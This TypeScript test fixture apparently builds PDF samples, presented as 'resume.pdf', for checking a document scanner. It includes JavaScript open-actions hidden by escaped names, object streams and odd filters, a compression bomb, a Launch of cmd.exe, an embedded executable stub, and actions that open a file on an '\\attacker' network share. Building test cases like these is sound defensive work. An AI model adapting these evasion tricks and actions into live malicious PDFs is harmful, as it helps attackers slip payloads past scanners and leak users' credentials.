import { deflateSync } from 'node:zlib'
import type { Sample } from './office-attacks.ts'

type Bytes = Uint8Array<ArrayBuffer>

export interface PdfStream {
  dictionary: string
  data: Uint8Array
}

export function pdfOf(
  objects: readonly (string | PdfStream)[],
  start = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n',
): Bytes {
  const parts: Buffer[] = [Buffer.from(start, 'latin1')]
  const offsets: number[] = []
  let length = parts[0]?.length ?? 0
  const add = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  for (const [index, object] of objects.entries()) {
    offsets.push(length)
    add(Buffer.from(`${index + 1} 0 obj\n`))
    if (typeof object === 'string') add(Buffer.from(object, 'latin1'))
    else {
      add(Buffer.from(`<<${object.dictionary}/Length ${object.data.length}>>\nstream\n`))
      add(Buffer.from(object.data))
      add(Buffer.from('\nendstream'))
    }
    add(Buffer.from('\nendobj\n'))
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const at = length
  add(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`))
  add(Buffer.from(`trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`))
  return Uint8Array.from(Buffer.concat(parts))
}

const text = 'BT /F1 12 Tf 72 720 Td (Nele New, HTML/JavaScript, C/JS) Tj ET'
export const page = (catalog = '') => [
  `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
  { dictionary: '', data: Buffer.from(text) },
  '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
]

export function objectStream(
  object: string,
  filter = '/Filter/FlateDecode',
  pack: (data: Buffer) => Uint8Array = deflateSync,
): PdfStream {
  const header = '9 0 '
  return {
    dictionary: `/Type/ObjStm/N 1/First ${header.length}${filter}`,
    data: pack(Buffer.from(header + object, 'latin1')),
  }
}

function packed(
  data: string,
  filter = '/Filter/FlateDecode',
  pack: (data: Buffer) => Uint8Array = deflateSync,
): PdfStream {
  return {
    dictionary: `/Type/ObjStm/N 2/First 10${filter}`,
    data: pack(Buffer.from(data, 'latin1')),
  }
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const asHex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`)

/** PDFs that run or carry something; harmless themselves. */
export const pdfAttacks: readonly Sample[] = (
  [
    ['a script on opening', pdfOf(page(`/OpenAction${script}`))],
    ['a script under an escaped name', pdfOf(page('/OpenAction<</S/J#61vaScript/J#53(x)>>'))],
    ['a script in an object stream', pdfOf([...page('/OpenAction 9 0 R'), objectStream(script)])],
    [
      'a script in an object stream without its type',
      pdfOf([
        ...page('/OpenAction 9 0 R'),
        { ...objectStream(script), dictionary: '/N 1/First 4/Filter[/FlateDecode]' },
      ]),
    ],
    [
      'a script in an object stream of another filter',
      pdfOf([
        ...page('/OpenAction 9 0 R'),
        objectStream(script, '/Filter[/ASCIIHexDecode/FlateDecode]', (data) =>
          asHex(deflateSync(data)),
        ),
      ]),
    ],
    [
      'a script in an object stream that cannot be unpacked',
      pdfOf([...page('/OpenAction 9 0 R'), objectStream(script, '/Filter/FlateDecode', asHex)]),
    ],
    [
      'a script in an object stream that is a bomb',
      pdfOf([...page(), objectStream(' '.repeat(40 * 2 ** 20))]),
    ],
    [
      'a script within the data of a stream',
      pdfOf([
        ...page('/OpenAction 9 0 R'),
        { dictionary: '', data: Buffer.from(`9 0 obj\n${script}\nendobj`) },
      ]),
    ],
    [
      'an escaped script within the data of a stream',
      pdfOf([...page(), { dictionary: '', data: Buffer.from('<</#53 /J#61vaScript>>') }]),
    ],
    ['a script whose action has its type elsewhere', pdfOf(page('/AA<</O<</J#53(x)/S 6 0 R>>>>'))],
    ['such a script in an object stream', pdfOf([...page(), objectStream('<</JS(x)/S 8 0 R>>')])],
    [
      'such a script in the trailer',
      Uint8Array.from(Buffer.concat([pdfOf(page()), Buffer.from('trailer<</JS(x)/S 8 0 R>>')])),
    ],
    ['a script after a comment', pdfOf(page(`% (\n/OpenAction${script}`))],
    [
      'a script in the trailer',
      Uint8Array.from(
        Buffer.from(
          `${Buffer.from(pdfOf(page())).toString('latin1')}trailer<</Root<</OpenAction${script}>>>>`,
          'latin1',
        ),
      ),
    ],
    ...[
      ['an open string before it', '4 0 6 2   ( <</S%\n/JavaScript/JS 9 0 R>>'],
      ['a comment before it', '4 0 6 2   % <</S%\r/JavaScript/JS 9 0 R>>'],
      ['a string around it', '4 0 6 2   ( <</AA<</O<</JS(x)/S 6 0 R>>>>>> )'],
      ['a blank run before its type', `4 0 6 2   ( <</S${' '.repeat(99)}/JavaScript/JS 9 0 R>>`],
    ].map(
      ([what, data = '']) =>
        [
          `a script in an object stream with ${what}`,
          pdfOf([...page('/OpenAction 6 0 R'), packed(data)]),
        ] as const,
    ),
    [
      'an object stream that has the end of a stream in a string',
      pdfOf([
        ...page('/OpenAction 6 0 R'),
        packed('4 0 6 12  (endstream) <</AA<</O<</JS(x)/S 6 0 R>>>>>>', '', (data) => data),
      ]),
    ],
    [
      'an object stream of two beginnings',
      pdfOf([
        ...page(),
        { ...packed('4 0 6 2   null'), dictionary: '/Type/ObjStm/N 2/First 10/First 4' },
      ]),
    ],
    [
      'an object stream of more objects than it names',
      pdfOf([...page(), { ...packed('4 0 6 2   null'), dictionary: '/Type/ObjStm/N 3/First 10' }]),
    ],
    [
      'an object stream without end',
      Uint8Array.from(
        Buffer.concat([
          pdfOf(page()),
          Buffer.from('9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n'),
          deflateSync(Buffer.from('9 0 null')),
        ]),
      ),
    ],
    [
      'an object stream that ends in another',
      pdfOf([...page(), '<</Type/ObjStm/N 0/First 0>>stream\n', packed('4 0 null')]),
    ],
    [
      'a document of a share on opening',
      pdfOf(page('/OpenAction<</S/GoToE/F(\\\\\\\\attacker\\\\x.pdf)/D[0/Fit]>>')),
    ],
    [
      'another document on opening',
      pdfOf(page('/OpenAction<</S/GoToR/F(\\\\\\\\attacker\\\\x.pdf)/D[0/Fit]>>')),
    ],
    ['a form sent on opening', pdfOf(page('/OpenAction<</S/SubmitForm/F(http://a.test)>>'))],
    ['data imported on opening', pdfOf(page('/OpenAction<</S/ImportData/F(x.fdf)>>'))],
    ['a launch action', pdfOf(page('/OpenAction<</S/Launch/F(cmd.exe)>>'))],
    [
      'an embedded file',
      pdfOf([
        ...page('/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>'),
        '<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>',
        { dictionary: '/Type/EmbeddedFile', data: Buffer.from('MZ') },
      ]),
    ],
    ['rich media', pdfOf([...page(), '<</Type/Annot/Subtype/RichMedia>>'])],
    ['an XFA form', pdfOf(page('/AcroForm<</XFA 6 0 R>>'))],
  ] as const
).map(([what, content]) => [`a PDF with ${what}`, 'resume.pdf', content])
